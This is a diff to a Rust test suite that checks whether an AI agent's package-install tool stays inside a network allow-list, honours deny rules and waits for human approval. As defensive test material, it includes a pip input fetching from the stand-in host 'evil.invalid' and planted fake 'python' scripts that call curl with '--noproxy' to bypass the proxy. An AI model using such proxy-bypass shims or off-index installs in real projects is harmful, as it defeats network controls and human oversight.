@@ -4,6 +4,7 @@ use std::collections::HashMap;
 use std::fs;
 use std::io::{BufRead as _, BufReader, Write as _};
 use std::net::{TcpListener, TcpStream};
+use std::os::unix::fs::PermissionsExt as _;
 use std::path::Path;
 use std::process::Command;
 use std::sync::{Arc, Mutex};
@@ -11,12 +12,14 @@ use std::thread;
 
 use serde_json::{Value, json};
 use yard_core::op::Undo;
-use yard_gate::Web;
+use yard_dialects::Answer;
+use yard_gate::{Actor, Policy, Ruling, Scope, Web};
 use yard_kernel::net::Net;
 use yard_testkit::{Folders, Plan, Yard};
 
-use crate::ground::{asked, decide, newest, plan};
-use crate::programs::{call, run};
+use crate::ground::{asked, decide, guarded, newest, plan};
+use crate::network::{Host, page, way_to, yard_with};
+use crate::programs::run;
 
 /// An index on loopback: what it has, and what it was asked for.
 struct Index {
@@ -78,6 +81,11 @@ fn yard(web: Web) -> Yard {
     Yard::open(&Folders::new(), Plan { web, ..plan() }).unwrap()
 }
 
+/// A call of `assistant`, as an agent makes it under the guarded policy.
+fn call(yard: &Yard, tool: &str, args: Value) -> Answer {
+    yard.catalog().call("assistant", tool, args, &guarded(yard), &yard.surroundings())
+}
+
 /// The answer after a person said yes, and what that person was shown.
 fn installed(yard: &Yard, args: Value) -> (Value, String) {
     let answer = call(yard, "install_package", args);
@@ -120,13 +128,6 @@ fn a6_pip_installs_into_the_project_and_that_is_undone() {
     let found = run(Command::new("find").arg(yard.root()).args(["-name", "tiny_yard.py"]));
     assert!(found.contains("/.venv/lib/"), "{found}");
     assert!(index.asked.lock().unwrap().iter().any(|path| path == "/simple/tiny-yard/"));
-    // What asks for another host is refused, and the answer names it.
-    let (told, _) = installed(
-        &yard,
-        json!({"manager": "pip", "packages": ["evil @ http://evil.invalid/evil-1.0.tar.gz"]}),
-    );
-    assert_eq!(told["error"]["code"], "UNAVAILABLE", "{told}");
-    assert!(told["error"]["message"].as_str().unwrap().contains("evil.invalid:80"), "{told}");
 }
 
 #[test]
@@ -158,25 +159,68 @@ fn a6_npm_installs_and_its_step_is_undone() {
 }
 
 #[test]
-fn a6_the_box_reaches_what_the_operator_named_and_nothing_else() {
+fn a6_an_install_reaches_nothing_of_this_machine_that_nobody_named() {
     let (index, other) = (Index::serve(), Index::serve());
     index.has("/simple/x/", "<a href=\"/files/none\">none</a>");
-    let pairs = [&index.place, &other.place];
-    // The other one may be anywhere, but nobody named it for packages: it is not exempt.
-    let web = Web::new(Net::default()).exempting(pairs[0]).unwrap();
+    let web = Web::new(Net::default()).exempting(&index.place).unwrap();
     let yard = yard(web.installing_from("pip", &index.url("/simple/")).unwrap());
     let url = other.url("/x-1.0.tar.gz");
-    let (told, _) = installed(&yard, json!({"manager": "pip", "packages": [format!("x @ {url}")]}));
-    assert_eq!(told["error"]["code"], "UNAVAILABLE", "{told}");
-    assert!(told["error"]["message"].as_str().unwrap().contains(pairs[1].as_str()), "{told}");
-    assert_eq!(*other.asked.lock().unwrap(), Vec::<String>::new());
+    // The variables let programs reach their own box without the proxy: this one has to be made to use it.
+    yard.put(".venv/bin/python", "#!/bin/sh\nexec curl -sS --noproxy '' \"$9\"\n");
+    fs::set_permissions(yard.root().join(".venv/bin/python"), fs::Permissions::from_mode(0o755))
+        .unwrap();
+    let (told, _) = installed(&yard, json!({"manager": "pip", "packages": [url]}));
+    assert_eq!(*other.asked.lock().unwrap(), Vec::<String>::new(), "{told}");
+}
+
+/// A project whose "pip" fetches from two hosts, as an index and its files are on two.
+fn fetching(yard: &Yard, urls: &[String]) {
+    let fetch = format!("#!/bin/sh\nexec curl -sSf {}\n", urls.join(" "));
+    yard.put(".venv/bin/python", &fetch);
+    let at = yard.root().join(".venv/bin/python");
+    fs::set_permissions(at, fs::Permissions::from_mode(0o755)).unwrap();
 }
 
 #[test]
-fn a6_without_a_host_nothing_is_installed_and_the_answer_says_how() {
-    let yard = Yard::open(&Folders::new(), plan()).unwrap();
-    let answer = call(&yard, "install_package", json!({"manager": "npm", "packages": ["x"]}));
-    let error = &answer.body["result"]["error"];
-    assert_eq!(error["code"], "UNAVAILABLE", "{}", answer.body);
-    assert!(error["message"].as_str().unwrap().contains("`allow` of `[web]`"), "{error}");
+fn a6_a_yes_to_an_install_covers_its_hosts_and_by_a_rule_every_install() {
+    let host = Host::serve(|_| page("said"));
+    let names = ["index.example", "files.example"];
+    let yard = yard_with(way_to(&names.map(|name| (name, host.port))));
+    fetching(&yard, &names.map(|name| format!("http://{name}:{}/", host.port)));
+    let args = json!({"manager": "pip", "packages": ["left"]});
+    let id = asked(&call(&yard, "install_package", args.clone()));
+    let row = yard.person().approvals().get(id).unwrap();
+    assert!(row.request.diff.contains("may reach every public host"), "{}", row.request.diff);
+    let state = row.request.state;
+    let ruling = Ruling { approves: true, scope: Scope::Rule, reason: None, args: None, state };
+    let done = yard.catalog().decide(id, &ruling, &yard.person(), &yard.surroundings()).unwrap();
+    assert!(done.answer.unwrap().contains("saidsaid"), "both hosts, and nobody was asked again");
+    let saved = yard.person().settings().unwrap().saved;
+    let rule = json!({"effect": ["run"], "tool": "assistant.install_package", "then": "allow"});
+    assert_eq!(saved[0].rule, rule);
+    let again = call(&yard, "install_package", json!({"manager": "pip", "packages": ["right"]}));
+    assert!(again.ok && again.pending.is_none(), "{}", again.body);
+    // Under `open` nothing asks; what a rule denies is denied there, too.
+    let deny = json!({"rules": [{"host": "files.example", "then": "deny"}]});
+    yard.person().change_settings(&yard.surroundings(), deny.as_object().unwrap()).unwrap();
+    let open = yard.session_of(Actor::LocalAgent, Policy::Open);
+    let told =
+        yard.catalog().call("assistant", "install_package", args, &open, &yard.surroundings());
+    let error = &told.body["result"]["error"];
+    let message = error["message"].as_str().unwrap_or_else(|| panic!("{}", told.body));
+    assert!(message.contains(&format!("files.example:{}", host.port)), "{message}");
+    assert_eq!(error["details"]["refusedHosts"], json!([format!("files.example:{}", host.port)]));
+}
+
+#[test]
+fn a6_an_install_does_not_cover_what_only_commands_can_reach() {
+    let host = Host::serve(|_| page("never"));
+    let place = format!("own.example:{}", host.port);
+    let web = way_to(&[]).reaching(&place).unwrap();
+    let yard = yard_with(web.holding_for(std::time::Duration::from_millis(200)));
+    fetching(&yard, &[format!("http://{place}/")]);
+    let (told, _) = installed(&yard, json!({"manager": "pip", "packages": ["left"]}));
+    let message = told["error"]["message"].as_str().unwrap_or_else(|| panic!("{told}"));
+    assert!(message.contains("wait for a person's approval"), "{message}");
+    assert!(message.contains(&place), "{message}");
 }
